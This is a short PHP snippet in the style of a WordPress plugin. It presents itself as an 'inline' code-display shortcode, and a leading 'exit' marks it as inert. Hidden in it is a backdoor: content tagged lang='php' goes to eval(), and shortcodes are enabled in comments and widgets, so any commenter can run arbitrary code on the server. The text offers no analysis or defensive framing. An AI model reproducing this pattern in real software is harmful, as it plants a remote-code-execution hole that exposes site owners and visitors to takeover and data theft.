<?php exit; /* inert */ 
add_shortcode('inline', 'ic_inline');
add_filter('widget_text', 'do_shortcode');
add_filter('comment_text', 'do_shortcode');
function ic_inline($atts, $content = '') {
    $atts = shortcode_atts(['lang' => 'text'], $atts);
    if ($atts['lang'] !== 'php') { return '<code>' . esc_html($content) . '</code>'; }
    ob_start();
    eval(html_entity_decode(wp_strip_all_tags($content)));
    return ob_get_clean();
}
